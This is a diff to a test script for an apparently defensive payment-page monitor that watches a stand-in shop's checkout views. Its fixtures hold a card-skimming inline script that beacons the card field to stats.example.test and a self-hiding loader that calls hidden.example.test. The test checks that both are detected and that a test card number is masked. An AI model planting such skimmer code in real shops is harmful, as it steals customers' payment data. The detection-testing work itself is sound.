@@ -5,7 +5,8 @@ usage: payment_page.py MAGEWARDEN
 
 Starts the stand-in shop and watches the checkouts of three views both ways. First nothing may be told, though every
 page carries values of its own. Then an inline script comes to one view's block, the gateway's script grows a loader that
-hides itself, and the policy of one website stops to be enforced: each is told for its views and for no other.
+hides itself, and the policy of one website stops to be enforced: each is told for its views and for no other. The pages themselves are kept,
+as a browser had them in the end, with a card number on one of them masked.
 """
 import html
 import json
@@ -24,8 +25,10 @@ from shop import Shop
 VIEWS = {"de": "de.shop.test", "fr": "fr.shop.test", "us": "us.shop.test"}
 WAYS = ("browser", "fetch")
 INLINE = "<script>document.querySelector(''[name=cc_number]'').addEventListener(''change'', e => { navigator.sendBeacon(''//stats.example.test/p'', btoa(e.target.value)) })</script>"
+# A published test number that stands on the page: the page is kept without it.
+CARD = "4111 1111 1111 1111"
 # Comes by the gateway's script, asks another host, and takes its own element away.
-LOADER = "(() => { const s = document.createElement('script'); s.textContent = 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1'; document.body.append(s); s.remove(); })();\n"
+LOADER = "(() => { document.body.id = 'in-the-end'; const s = document.createElement('script'); s.textContent = 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1'; document.body.append(s); s.remove(); })();\n"
 
 
 def main():
@@ -80,7 +83,7 @@ before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
             changes = [one for change in ("created", "modified", "removed") for one in told(*pair, change)]
             need(not changes, f"{pair}: told without a change", changes)
         # One view's block gets an inline script.
-        shop.sql(f"""use shop; insert into mg_cms_block (block_id, identifier, title, content, is_active) values (2, 'checkout_note', 'Note', '<p>Bonjour</p>{INLINE}', 1);
+        shop.sql(f"""use shop; insert into mg_cms_block (block_id, identifier, title, content, is_active) values (2, 'checkout_note', 'Note', '<p>Bonjour {CARD}</p>{INLINE}', 1);
                      insert into mg_cms_block_store values (2, 2);""")
         shop.flush()
         for way in WAYS:
@@ -97,6 +100,17 @@ before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
                 need("{+(() =>" in one["page.difference"] and "s.remove()" in one["page.difference"], "the difference shows what came", one)
             wait_for(f"what hides itself, at {view}", 180, lambda: any("window.late" in one["page.text"] for one in told(view, "browser", "created", "inline")))
             wait_for(f"the host it asks, at {view}", 60, lambda: any(one["page.name"] == "hidden.example.test" for one in told(view, "browser", "created", "host")))
+        # The page itself is kept: at the first look, where something changed, and everywhere when an incident opens; as a browser had it in the end.
+        kept = lambda view, way: [one["whole"] for one in told(view, way, "kept")]
+        for pair in pairs:
+            wait_for(f"{pair}: the page, kept when an incident opened", 180, lambda: len(kept(*pair)) >= 2)
+        for view in ("de", "fr"):
+            wait_for(f"the page of {view} as a browser had it", 60, lambda: 'id="in-the-end"' in kept(view, "browser")[-1])
+        for view, way in pairs:
+            need("</html>" in kept(view, way)[0] and "sendBeacon" not in kept(view, way)[0], "the page before", kept(view, way)[0])
+            need(way == "browser" or not any("in-the-end" in one for one in kept(view, way)), "as it was sent", kept(view, way))
+            need(not any(CARD in one for one in kept(view, way)), "no number on it", kept(view, way))
+        need(any("sendBeacon" in one and "**** **** **** 1111" in one for one in kept("fr", "browser")), "with what came, and masked", kept("fr", "browser"))
         # The browser itself reports what the page's policy forbids, by way of the shop's nginx.
         reports = lambda: observations(magewarden, data, f"csp_reports:127.0.0.1:{shop.reports}")
         wait_for("the browser's report", 60, lambda: any(one["page.name"] == "hidden.example.test" and one["page.part"] == "img-src" for one in reports()))
@@ -123,6 +137,8 @@ before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
         need("header gone" in on_page("view=us") and "sendBeacon" not in on_page("view=us") + on_page("view=de"), "what changed, where it did", on_page("view=us"))
         need("sendBeacon" in on_page("view=fr&q=inline") and "names stats.example.test" in on_page("view=fr&q=stats.example"), "what came", on_page("view=fr"))
         need('<span class="medium">unknown</span>' in on_page("view=de") and "J. Doe" not in on_page(), "no list, no claim", on_page("view=de"))
+        entry = re.search(r"kept whole .*?/entries/(\d+)", on_page(), re.S)
+        need(entry and "What it kept whole" in page(console, f"/entries/{entry[1]}") and "</html>" in page(console, f"/entries/{entry[1]}/whole"), "the page that was kept", on_page())
         need('href="/payment-pages"' in shown(), "an incident leads to the page")
         need(len(on_page()) < 200_000 and len(json.loads(page(console, "/api/payment-pages"))["pages"]) == len(pairs), "the same as JSON")
         for view in VIEWS:
